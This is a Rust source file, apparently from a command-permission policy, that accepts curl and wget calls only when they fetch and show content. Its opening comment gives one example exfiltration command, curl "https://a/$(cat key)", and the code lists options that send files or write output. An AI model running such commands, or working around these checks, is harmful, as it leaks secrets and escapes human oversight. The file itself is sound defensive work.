//! `curl` and `wget` that fetch and show. Only options known to keep it so are accepted, and no part of the address may be
//! computed: `curl "https://a/$(cat key)"` gives the key away.

use crate::policy::effect::shell::Verdict;
use crate::policy::effect::shell::args::Args;

/// Letters of `curl` that stand alone.
const CURL_LETTERS: &str = "sSLkiIvfgN46j#";

/// Long options of `curl` that stand alone.
const CURL_ALONE: &[&str] = &[
    "--compressed",
    "--fail",
    "--fail-with-body",
    "--head",
    "--http1.1",
    "--http2",
    "--include",
    "--insecure",
    "--ipv4",
    "--ipv6",
    "--location",
    "--no-buffer",
    "--no-progress-meter",
    "--show-error",
    "--silent",
    "--verbose",
    "--globoff",
];

/// Options of `curl` that take the next word, which only says how to ask.
const CURL_VALUED: &[&str] = &[
    "--connect-timeout",
    "--max-time",
    "--retry",
    "--retry-delay",
    "--user-agent",
    "--referer",
    "--header",
    "--max-redirs",
    "--range",
    "--user",
    "--cacert",
    "-A",
    "-H",
    "-m",
    "-e",
    "-r",
    "-u",
];

/// Methods that look.
const SAFE: &[&str] = &["GET", "HEAD", "OPTIONS"];

/// `curl` that fetches.
pub fn curl(args: &Args<'_>) -> Verdict {
    let words = args.literals()?;
    let mut words = words.iter().map(String::as_str);
    let mut addresses = 0;
    while let Some(word) = words.next() {
        match word {
            "-X" | "--request" => safe_method(args, words.next().unwrap_or_default())?,
            "-o" | "--output" => nowhere(args, words.next().unwrap_or_default())?,
            "-w" | "--write-out" => plain_format(args, words.next().unwrap_or_default())?,
            "--url" => addresses += web(args, words.next().unwrap_or_default())?,
            _ if CURL_ALONE.contains(&word) => {}
            _ if CURL_VALUED.contains(&word) => {
                plain_value(args, words.next().unwrap_or_default())?
            }
            _ if word.starts_with("--") => return args.unknown(),
            _ => match word.strip_prefix('-') {
                Some("") => return args.unknown(),
                Some(letters) if letters.chars().all(|c| CURL_LETTERS.contains(c)) => {}
                Some(letters) if letters.starts_with('X') => {
                    safe_method(args, letters.trim_start_matches('X'))?
                }
                Some(letters) => {
                    // A cluster may end in `o` with its file in the next word: `-so /dev/null`.
                    let silent = letters
                        .strip_suffix('o')
                        .is_some_and(|rest| rest.chars().all(|c| CURL_LETTERS.contains(c)));
                    if !silent {
                        return args.unknown();
                    }
                    nowhere(args, words.next().unwrap_or_default())?;
                }
                None => addresses += web(args, word)?,
            },
        }
    }
    if addresses == 0 { args.unknown() } else { Ok(()) }
}

fn safe_method(args: &Args<'_>, method: &str) -> Verdict {
    if SAFE.contains(&method) {
        Ok(())
    } else {
        Err(format!("'{}' makes a '{method}' request", args.program))
    }
}

fn nowhere(args: &Args<'_>, file: &str) -> Verdict {
    if ["/dev/null", "-"].contains(&file) {
        Ok(())
    } else {
        Err(format!("'{}' writes to a file", args.program))
    }
}

fn plain_format(args: &Args<'_>, format: &str) -> Verdict {
    if format.contains("%output") || format.starts_with('@') { args.unknown() } else { Ok(()) }
}

/// `@file` sends what a file holds.
fn plain_value(args: &Args<'_>, value: &str) -> Verdict {
    if value.starts_with('@') || value.starts_with('-') { args.unknown() } else { Ok(()) }
}

/// An address of the web, or a bare host. Other schemes talk to other things.
fn web(args: &Args<'_>, address: &str) -> Result<usize, String> {
    let scheme = address.split_once("://").map_or("http", |(scheme, _)| scheme);
    if ["http", "https"].contains(&scheme.to_ascii_lowercase().as_str()) {
        Ok(1)
    } else {
        args.unknown()
    }
}

/// `wget` that shows, or only asks whether something is there.
pub fn wget(args: &Args<'_>) -> Verdict {
    let words = args.literals()?;
    let mut words = words.iter().map(String::as_str);
    let mut shows = false;
    let mut addresses = 0;
    while let Some(word) = words.next() {
        match word {
            "-qO-" | "-O-" | "--spider" | "--output-document=-" => shows = true,
            "-O" | "-qO" => {
                nowhere(args, words.next().unwrap_or_default())?;
                shows = true;
            }
            "-q"
            | "--quiet"
            | "-nv"
            | "-S"
            | "--server-response"
            | "--no-check-certificate"
            | "-4"
            | "-6" => {}
            "-T" | "-t" | "--timeout" | "--tries" | "--header" => {
                plain_value(args, words.next().unwrap_or_default())?
            }
            _ if word.starts_with("--timeout=") || word.starts_with("--tries=") => {}
            _ if word.starts_with('-') => return args.unknown(),
            _ => addresses += web(args, word)?,
        }
    }
    if shows && addresses > 0 {
        Ok(())
    } else {
        Err("'wget' writes what it fetches to a file".to_owned())
    }
}
